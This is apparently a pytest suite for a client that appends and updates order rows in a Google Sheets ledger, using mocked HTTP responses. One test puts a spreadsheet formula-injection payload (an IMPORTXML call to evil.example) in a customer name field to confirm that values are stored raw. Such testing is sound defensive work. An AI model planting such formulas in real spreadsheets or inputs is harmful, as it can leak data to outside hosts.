import json
from urllib.parse import unquote

import httpx
import pytest

from orderbridge.errors import LedgerError, RemoteWriteError
from orderbridge.ledger import LedgerClient
from orderbridge.models import OrderRecord

BASE = "https://sheets.googleapis.com/v4/spreadsheets/sheet-123/values"


class StaticToken:
    async def token(self):
        return "ya29.test"


def make_ledger(handler, sheet_name="Sheet1", spreadsheet_id="sheet-123"):
    http = httpx.AsyncClient(transport=httpx.MockTransport(handler))
    return LedgerClient(http, StaticToken(), spreadsheet_id, sheet_name, max_retries=3, base_delay=0)


def record(tracking_id="SPL351001", **overrides):
    fields = dict(
        created_at="2024-05-01T10:15:30.123Z", tracking_id=tracking_id, customer_name="Asha Verma",
        phone="9876543210", address_line1="12 MG Road", pincode="560001", city="Bengaluru",
        state="Karnataka", product_name="Comfortable Shoes for winter", size="9",
        payment_method="Prepaid", amount_paid=499.5, amount_remaining=0, total_amount=499.5,
    )
    fields.update(overrides)
    return OrderRecord(**fields)


class TestAppend:
    @pytest.mark.asyncio
    async def test_append_returns_row_number(self):
        seen = {}

        def handler(request: httpx.Request):
            seen["method"] = request.method
            seen["path"] = unquote(request.url.path)
            seen["params"] = dict(request.url.params)
            seen["auth"] = request.headers["authorization"]
            seen["body"] = json.loads(request.content)
            return httpx.Response(200, json={"updates": {"updatedRange": "Sheet1!A7:R7", "updatedRows": 1}})

        row = await make_ledger(handler).append_row(record())
        assert row == 7
        assert seen["method"] == "POST"
        assert seen["path"].endswith("/values/Sheet1!A:R:append")
        assert seen["params"] == {"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"}
        assert seen["auth"] == "Bearer ya29.test"
        values = seen["body"]["values"][0]
        assert values[:3] == ["2024-05-01T10:15:30.123Z", "SPL351001", "pending"]
        assert values[16] == "Pending Payment"
        assert len(values) == 18

    @pytest.mark.asyncio
    async def test_append_not_retried_on_server_error(self):
        calls = []

        def handler(request):
            calls.append(request)
            return httpx.Response(503, text="backend error")

        with pytest.raises(RemoteWriteError):
            await make_ledger(handler).append_row(record())
        assert len(calls) == 1

    @pytest.mark.asyncio
    async def test_append_with_unexpected_range(self):
        handler = lambda request: httpx.Response(200, json={"updates": {}})
        with pytest.raises(RemoteWriteError):
            await make_ledger(handler).append_row(record())

    @pytest.mark.asyncio
    async def test_cells_stored_as_sent(self):
        seen = {}

        def handler(request):
            seen["params"] = dict(request.url.params)
            seen["values"] = json.loads(request.content)["values"][0]
            return httpx.Response(200, json={"updates": {"updatedRange": "Sheet1!A3:R3"}})

        formula = '=IMPORTXML("http://evil.example","//a")'
        await make_ledger(handler).append_row(record(customer_name=formula, phone="09876543210", pincode="012345"))
        assert seen["params"]["valueInputOption"] == "RAW"
        assert seen["values"][3] == formula
        assert seen["values"][4] == "09876543210"
        assert seen["values"][7] == "012345"

    @pytest.mark.asyncio
    async def test_append_non_json_response(self):
        handler = lambda request: httpx.Response(200, text="<html>proxy error</html>")
        with pytest.raises(RemoteWriteError, match="non-JSON"):
            await make_ledger(handler).append_row(record())

    @pytest.mark.asyncio
    async def test_quoted_sheet_name(self):
        seen = {}

        def handler(request):
            seen["path"] = unquote(request.url.path)
            return httpx.Response(200, json={"updates": {"updatedRange": "'Orders 2024'!A2:R2"}})

        assert await make_ledger(handler, sheet_name="Orders 2024").append_row(record()) == 2
        assert "/values/'Orders 2024'!A:R:append" in seen["path"]


class TestLookup:
    @pytest.mark.asyncio
    async def test_find_row_index(self):
        def handler(request):
            assert unquote(request.url.path) == "/v4/spreadsheets/sheet-123/values/Sheet1!B:B"
            return httpx.Response(200, json={"values": [["Custom ID"], ["SPL351001"], [], ["SPL351002"]]})

        ledger = make_ledger(handler)
        assert await ledger.read_tracking_ids() == ["Custom ID", "SPL351001", "", "SPL351002"]
        assert await ledger.find_row_index("SPL351002") == 4
        assert await ledger.find_row_index("SPL000000") is None

    @pytest.mark.asyncio
    async def test_empty_sheet(self):
        ledger = make_ledger(lambda request: httpx.Response(200, json={"range": "Sheet1!B1:B1000"}))
        assert await ledger.find_row_index("SPL351001") is None

    @pytest.mark.asyncio
    async def test_reads_retry_transient_errors(self):
        responses = [httpx.Response(503), httpx.Response(429), httpx.Response(200, json={"values": [["x"]]})]

        def handler(request):
            return responses.pop(0)

        assert await make_ledger(handler).read_tracking_ids() == ["x"]
        assert responses == []

    @pytest.mark.asyncio
    async def test_read_failure(self):
        ledger = make_ledger(lambda request: httpx.Response(403, json={"error": {"message": "denied"}}))
        with pytest.raises(LedgerError):
            await ledger.find_row_index("SPL351001")

    @pytest.mark.asyncio
    @pytest.mark.parametrize("response", [
        httpx.Response(200, text="<html>proxy error</html>"),
        httpx.Response(200, json=[["SPL351001"]]),
    ])
    async def test_read_unexpected_body(self, response):
        ledger = make_ledger(lambda request: response)
        with pytest.raises(LedgerError):
            await ledger.read_tracking_ids()

    @pytest.mark.asyncio
    async def test_spreadsheet_id_required(self):
        ledger = make_ledger(lambda request: httpx.Response(200), spreadsheet_id="")
        with pytest.raises(LedgerError, match="SPREADSHEET_ID"):
            await ledger.read_tracking_ids()


class TestUpdates:
    @pytest.mark.asyncio
    async def test_update_cell(self):
        seen = {}

        def handler(request):
            seen["method"] = request.method
            seen["path"] = unquote(request.url.path)
            seen["params"] = dict(request.url.params)
            seen["body"] = json.loads(request.content)
            return httpx.Response(200, json={"updatedCells": 1})

        await make_ledger(handler).update_cell(5, "C", "order_Nx1")
        assert seen["method"] == "PUT"
        assert seen["path"].endswith("/values/Sheet1!C5")
        assert seen["params"] == {"valueInputOption": "RAW"}
        assert seen["body"] == {"values": [["order_Nx1"]]}

    @pytest.mark.asyncio
    async def test_update_cells_single_batch_in_order(self):
        calls = []

        def handler(request):
            calls.append((unquote(request.url.path), json.loads(request.content)))
            return httpx.Response(200, json={"totalUpdatedCells": 2})

        await make_ledger(handler).update_cells(5, [("R", "pay_001"), ("Q", "Payment Received")])
        assert len(calls) == 1
        path, body = calls[0]
        assert path == "/v4/spreadsheets/sheet-123/values:batchUpdate"
        assert body == {
            "valueInputOption": "RAW",
            "data": [
                {"range": "Sheet1!R5", "values": [["pay_001"]]},
                {"range": "Sheet1!Q5", "values": [["Payment Received"]]},
            ],
        }

    @pytest.mark.asyncio
    async def test_update_failure(self):
        ledger = make_ledger(lambda request: httpx.Response(500, text="oops"))
        with pytest.raises(RemoteWriteError):
            await ledger.update_cells(5, [("Q", "Payment Received")])

    @pytest.mark.asyncio
    async def test_update_cell_retries_transient_errors(self):
        responses = [httpx.Response(503), httpx.Response(200, json={"updatedCells": 1})]
        calls = []

        def handler(request):
            calls.append(request)
            return responses.pop(0)

        await make_ledger(handler).update_cell(5, "C", "order_Nx1")
        assert len(calls) == 2

    @pytest.mark.asyncio
    async def test_update_cells_retries_rate_limit(self):
        responses = [httpx.Response(429), httpx.Response(200, json={"totalUpdatedCells": 1})]
        calls = []

        def handler(request):
            calls.append(json.loads(request.content))
            return responses.pop(0)

        await make_ledger(handler).update_cells(5, [("Q", "Payment Received")])
        assert len(calls) == 2
        assert calls[0] == calls[1]
